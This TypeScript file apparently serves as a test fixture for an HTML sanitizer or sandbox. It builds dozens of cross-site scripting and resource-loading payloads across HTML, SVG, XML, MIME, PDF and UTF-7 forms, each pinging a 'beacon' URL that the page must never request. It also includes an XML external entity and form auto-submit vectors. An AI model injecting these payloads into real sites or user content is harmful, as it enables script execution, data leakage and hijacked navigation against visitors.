/** HTML that attacks the page if it is not escaped or blocked. */
export interface Vector {
  readonly contentType: string
  readonly body: string
}

const HTML = 'text/html'
const SVG = 'image/svg+xml'
const XHTML = 'application/xhtml+xml'
const XML = 'text/xml'

/**
 * Ways to run a script, send a form, leave the page, or remain in the browser.
 *
 * @param beacon a URL that the page must never request
 */
export function vectors(beacon: string): readonly Vector[] {
  const js = `new Image().src='${beacon}'`
  const xhtml = (content: string) => `<html xmlns="http://www.w3.org/1999/xhtml">${content}</html>`
  const svg = (content: string) => `<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`
  const html = [
    `<script>${js}</script>`,
    `<script src="${beacon}"></script>`,
    `<script type="module">${js}</script>`,
    `<script type="module" src="${beacon}"></script>`,
    `<img src=x onerror="${js}">`,
    `<img src="${beacon}">`,
    `<body onload="${js}">`,
    `<body background="${beacon}">`,
    `<svg onload="${js}"></svg>`,
    `<svg><script>${js}</script></svg>`,
    `<svg><image href="${beacon}"/></svg>`,
    `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
    `<input autofocus onfocus="${js}">`,
    `<details open ontoggle="${js}">`,
    `<video src=x onerror="${js}"></video>`,
    `<video poster="${beacon}"></video>`,
    `<audio src="${beacon}" autoplay></audio>`,
    `<marquee onstart="${js}">x</marquee>`,
    `<style>@import '${beacon}';</style>`,
    `<style>body{background:url(${beacon})}</style>`,
    `<p style="background:url(${beacon})">x</p>`,
    `<style>@keyframes x{}p{animation:x 1s}</style><p onanimationstart="${js}">x</p>`,
    `<link rel=stylesheet href="${beacon}">`,
    `<link rel=prefetch href="${beacon}">`,
    `<link rel=preload as=script href="${beacon}">`,
    `<link rel=modulepreload href="${beacon}">`,
    `<link rel=icon href="${beacon}">`,
    `<iframe src="${beacon}"></iframe>`,
    `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
    `<iframe src="javascript:${js}"></iframe>`,
    `<object data="${beacon}"></object>`,
    `<embed src="${beacon}">`,
    `<object data="data:text/html,<script>${js}</script>"></object>`,
    `<meta http-equiv=refresh content="0;url=${beacon}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
    `<base href="${beacon}/"><script src=x></script>`,
    `<form action="${beacon}"><input name=a autofocus><button id=go>go</button></form><script>document.forms[0].submit()</script>`,
    `<a id=go href="javascript:${js}">go</a>`,
    `<form action="${beacon}"><button id=go>go</button></form>`,
    `<button id=go formaction="javascript:${js}" form=f>go</button><form id=f></form>`,
    `<a id=go href="#" ping="${beacon}">go</a>`,
    `<script>navigator.serviceWorker.register('/sw.js')</script>`,
    `<script>top.location='${beacon}'</script>`,
    `<script>open('${beacon}')</script>`,
    `<script>document.title='ran'</script>`,
  ].map((body) => ({ contentType: HTML, body }))
  const others: Vector[] = [
    { contentType: SVG, body: svg(`<script>${js}</script>`) },
    { contentType: SVG, body: svg(`<script href="${beacon}"/>`) },
    { contentType: SVG, body: svg(`<image href="${beacon}" width="9" height="9"/>`) },
    {
      contentType: SVG,
      body: svg(
        `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${beacon}"/></foreignObject>`,
      ),
    },
    { contentType: XHTML, body: xhtml(`<script>${js}</script>`) },
    { contentType: XHTML, body: xhtml(`<body onload="${js}">x</body>`) },
    { contentType: XML, body: xhtml(`<script>${js}</script>`) },
    { contentType: XML, body: `<?xml-stylesheet type="text/xsl" href="${beacon}"?><x/>` },
    { contentType: XML, body: `<?xml-stylesheet type="text/css" href="${beacon}"?><x/>` },
    {
      contentType: 'application/xml',
      body: `<!DOCTYPE x [<!ENTITY e SYSTEM "${beacon}">]><x>&e;</x>`,
    },
    {
      contentType: 'multipart/related; boundary=b',
      body: `--b\r\nContent-Type: text/html\r\n\r\n<script>${js}</script>\r\n--b--`,
    },
    {
      contentType: 'message/rfc822',
      body: `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>${js}</script>`,
    },
    {
      contentType: 'application/pdf',
      body: `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${beacon})>>>>endobj`,
    },
    { contentType: 'text/plain', body: `<script>${js}</script>` },
    { contentType: 'application/json', body: `<script>${js}</script>` },
    { contentType: 'unknown/unknown', body: `<html><script>${js}</script></html>` },
    { contentType: 'text/html; charset=utf-7', body: `+ADw-script+AD4-${js}+ADw-/script+AD4-` },
  ]
  return [...html, ...others]
}
